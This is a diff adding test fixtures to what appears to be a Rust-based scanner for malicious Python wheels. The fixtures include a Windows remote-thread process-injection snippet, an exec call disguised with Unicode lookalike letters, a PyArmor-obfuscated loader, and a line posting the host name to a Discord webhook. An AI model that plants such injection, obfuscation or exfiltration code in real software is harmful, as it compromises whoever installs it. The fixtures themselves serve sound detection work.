@@ -389,6 +389,21 @@ fn cases() -> Vec<Case> {
             "len(",
         ),
         pair(
+            "R-54",
+            |script| wheel("made_up.py", script),
+            "import ctypes\nk = ctypes.windll.kernel32\np = k.OpenProcess(1, False, 1)\na = k.VirtualAllocEx(p, 0, 9, 1, 4)\nk.WriteProcessMemory(p, a, b'x', 1, None)\nk.CreateRemoteThread(p, None, 0, a, a, 0, None)\n",
+            "k.WriteProcessMemory(p, a, b'x', 1, None)\nk.CreateRemoteThread(p, None, 0, a, a, 0, None)\n",
+            "",
+        ),
+        pair("O-04", |script| wheel("made_up.py", script), "𝚎𝚡𝚎𝚌('print(1)')\n", "𝚎𝚡𝚎𝚌", "exec"),
+        pair(
+            "O-03",
+            |script| wheel("made_up.py", script),
+            "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY')\n",
+            "__pyarmor__(",
+            "print(",
+        ),
+        pair(
             "R-18",
             |script| wheel("made_up.py", script),
             "import requests, socket\nrequests.post('https://discord.com/api/webhooks/1/x', json={'a': socket.gethostname()})\n",
